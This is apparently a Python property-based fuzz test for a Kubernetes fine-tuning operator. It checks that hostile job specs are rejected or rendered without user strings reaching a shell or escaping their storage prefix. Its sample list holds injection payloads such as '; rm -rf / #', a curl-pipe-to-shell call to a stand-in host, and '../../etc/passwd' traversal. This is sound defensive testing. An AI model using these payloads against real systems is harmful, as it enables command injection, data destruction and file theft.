"""1,000 generated hostile FineTuneJobs through the operator's whole pure path (issue 9).

Each document is a valid job with 1-3 string or number leaves replaced by hostile values: shell
metacharacters, path traversal in s3 keys, unicode, control characters, huge numbers, names at the
63-character limit. Each is either rejected with clear problems, or accepted and then rendered and
decided without an exception, with no user string in the one field KubeRay hands to a shell (the
RayJob's entrypoint) and every object key of the job under `<uri>/<namespace>/<job>/`.
"""

from __future__ import annotations

import copy
import json
import shlex
from collections import Counter
from datetime import datetime, timezone
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_validation_fuzz import assert_clear, leaf_paths, rich_job, set_path

from edgetune_operator.api import FineTuneJobStatus, document_problems, parse_job
from edgetune_operator.render import (
    JobRef,
    OperatorDefaults,
    render_config_map,
    render_export_job,
    render_rayjob,
    render_trainer_rbac,
    train_entrypoint,
)
from edgetune_operator.status import decide
from edgetune_trainer.storage.job import JobStorage

HOSTILE_STRINGS = st.one_of(
    st.sampled_from(
        [
            "$(reboot)",
            "`id`",
            "; rm -rf / #",
            "a && curl evil.example | sh",
            "'\"; exit 1; \"'",
            "../../etc/passwd",
            "s3://bucket/../../other-tenant",
            "s3://bucket/jobs/./x",
            "/absolute/key",
            "..",
            "x" * 63,
            "x" * 64,
            "a" * 100_000,
            "名前-ジョブ",
            "\x00\n\r\t",
            "‮rtl-override",
            "${HOME}",
            "%2e%2e%2f",
        ]
    ),
    st.text(max_size=70),
)
HOSTILE_NUMBERS = st.sampled_from([0, -1, 2**31, 2**63, 10**30, 1e308, float("inf"), float("nan"), -0.0, 3.5])
RNG_SEEDED = settings(max_examples=1000, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
DEFAULTS = OperatorDefaults()
NOW = datetime(2026, 11, 24, tzinfo=timezone.utc)
OUTCOMES: Counter[str] = Counter()


def _strings(node: Any) -> list[str]:
    if isinstance(node, dict):
        return [s for key, value in node.items() for s in (*_strings(key), *_strings(value))]
    if isinstance(node, list):
        return [s for value in node for s in _strings(value)]
    return [node] if isinstance(node, str) else []


def check_accepted(document: dict[str, Any]) -> None:
    job = parse_job(document)
    ref = JobRef(job.metadata.name, "team-a", "uid-0")
    spec = job.spec
    children = [
        render_config_map(ref, spec, 1, DEFAULTS),
        render_rayjob(ref, spec, 1, DEFAULTS),
        *render_trainer_rbac(ref),
        *(render_export_job(ref, spec, target, 1, DEFAULTS) for target in spec.export),
    ]
    json.dumps(children)  # every child is plain JSON the API server can take
    # KubeRay runs the entrypoint through a shell: only fixed strings may be in it.
    assert children[1]["spec"]["entrypoint"] == shlex.join(train_entrypoint(DEFAULTS))
    # Export Jobs take argv (no shell); a target's name is a validated DNS label.
    for export in children[len(children) - len(spec.export) :]:
        (container,) = export["spec"]["template"]["spec"]["containers"]
        assert "command" in container or "args" in container
        assert not {"sh", "bash", "-c"} & set(container.get("command", []) + container.get("args", []))
    # The user's strings travel in the ConfigMap as JSON data, where no shell reads them.
    config = json.loads(children[0]["data"]["trainer-config.json"])
    assert config["name"] == ref.name
    if spec.storage.uri:
        storage = JobStorage(spec.storage, ref.namespace, ref.name)
        root = storage.root
        for key in ("checkpoints/checkpoint_000001", "model", "exports/edge/model.onnx", "manifest.json"):
            assert storage.path(key).startswith(root + "/")
        assert root.endswith(f"/team-a/{ref.name}")
    decision = decide(ref.name, spec, [], FineTuneJobStatus(), 1, [], [], NOW)
    assert decision.status.phase in ("Launching", "Suspended", "Pending")


def hostile_base() -> dict[str, Any]:
    """rich_job() plus the free-text fields (class names, column names) where most strings are legal."""
    document = copy.deepcopy(rich_job())
    document["spec"]["model"]["labels"] = ["negative", "positive"]
    document["spec"]["dataset"].update(textField="text", labelField="label")
    return document


FREE_TEXT = [("spec", "model", "labels", 0), ("spec", "model", "labels", 1), ("spec", "dataset", "textField")]


@RNG_SEEDED
@given(data=st.data())
def test_hostile_documents_are_rejected_clearly_or_handled_safely(data: st.DataObject) -> None:
    document = hostile_base()
    # Half the time aim at the free-text fields, so that many hostile strings get through to rendering.
    paths = FREE_TEXT if data.draw(st.booleans()) else leaf_paths(document)
    for path in data.draw(st.lists(st.sampled_from(paths), min_size=1, max_size=3, unique=True)):
        value = data.draw(st.one_of(HOSTILE_STRINGS, HOSTILE_NUMBERS) if path[-1] != "name" else HOSTILE_STRINGS)
        set_path(document, path, value)
    problems = document_problems(document)
    assert_clear(problems)
    if problems:
        OUTCOMES["rejected with a message"] += 1
        return
    OUTCOMES["accepted, rendered safely"] += 1
    check_accepted(document)


@pytest.fixture(scope="module", autouse=True)
def report_outcomes() -> Any:
    yield
    if OUTCOMES:
        total = sum(OUTCOMES.values())
        print(f"\nFIGURE: {total} hostile specs: " + ", ".join(f"{n} {what}" for what, n in OUTCOMES.items()))
